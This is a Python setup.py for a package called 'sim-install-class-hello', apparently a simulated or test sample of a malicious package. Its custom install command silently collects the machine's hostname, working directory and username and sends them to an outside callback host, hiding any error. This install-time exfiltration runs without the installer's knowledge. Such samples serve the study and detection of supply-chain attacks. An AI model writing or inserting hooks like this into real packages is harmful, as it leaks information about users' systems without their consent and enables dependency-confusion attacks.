# SPDX-License-Identifier: Apache-2.0
from setuptools import setup
from setuptools.command.install import install
import getpass
import os
import socket
import urllib.parse
import urllib.request


class CustomInstall(install):
    def run(self):
        install.run(self)
        hostname = socket.gethostname()
        cwd = os.getcwd()
        username = getpass.getuser()
        ploads = {'hostname': hostname, 'cwd': cwd, 'username': username}
        try:
            urllib.request.urlopen(
                "https://yqk3vd8pzo.oastify-like.example/?" + urllib.parse.urlencode(ploads), timeout=5
            )
        except Exception:
            pass


setup(
    name="sim-install-class-hello",
    version="1.0.0",
    description="test",
    author="tester",
    license="Apache-2.0",
    zip_safe=False,
    py_modules=["sim_install_class_hello"],
    cmdclass={'install': CustomInstall},
)
